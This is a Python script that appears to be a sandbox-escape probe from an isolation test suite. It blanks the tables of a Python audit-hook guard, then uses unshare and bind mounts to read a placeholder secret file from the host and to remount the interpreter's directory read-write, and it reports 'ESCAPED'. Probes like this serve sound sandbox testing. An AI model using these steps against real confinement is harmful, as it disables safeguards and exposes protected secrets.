"""escape: mount tricks: in a private mount namespace, bind the host root (or the secret's
directory) into /work and read through it; remount read-only binds read-write; a tmpfs probe.

Mounts only inside a mount namespace of its own (unshare, then MS_PRIVATE), so an unconfined
run cannot change the host's mounts; without one it only probes with a tmpfs and unmounts.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SECRET_FILE = "__SECRET_FILE__"
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 32, 0x1000, 0x4000, 1 << 18
libc = ctypes.CDLL(None, use_errno=True)
wins = []


def err():
    return os.strerror(ctypes.get_errno())


os.makedirs("host", exist_ok=True)
host = os.path.abspath("host").encode()
private = False
for flags, label in ((CLONE_NEWNS, "mount"), (CLONE_NEWUSER | CLONE_NEWNS, "user+mount")):
    if libc.unshare(flags) == 0:
        private = libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None) == 0
        wins.append(f"unshare({label})")
        break
    print(f"unshare({label}): {err()}")
if private:
    for source in (b"/", os.path.dirname(SECRET_FILE).encode()):
        if libc.mount(source, host, None, MS_BIND | MS_REC, None) == 0:
            wins.append(f"bound {source.decode()} into the work directory")
            inside = (
                os.path.join("host", SECRET_FILE.lstrip("/"))
                if source == b"/"
                else os.path.join("host", os.path.basename(SECRET_FILE))
            )
            try:
                with open(inside, "rb") as f:
                    wins.append(f"read {f.read()[-200:]!r}")
            except OSError as exc:
                print(f"read through the bind: {exc.strerror}")
            libc.umount2(host, 2)
            break
        print(f"bind {source!r}: {err()}")
    exe = os.path.dirname(os.path.realpath(sys.executable)).encode()
    if libc.mount(None, exe, None, MS_REMOUNT | MS_BIND, None) == 0:
        wins.append("remounted the interpreter's directory read-write (private namespace)")
    else:
        print(f"remount rw: {err()}")
elif libc.mount(b"tmpfs", host, b"tmpfs", 0, None) == 0:
    wins.append("mounted a tmpfs")
    libc.umount2(host, 2)
else:
    print(f"mount tmpfs: {err()}")
if wins:
    print("ESCAPED: " + "; ".join(wins))
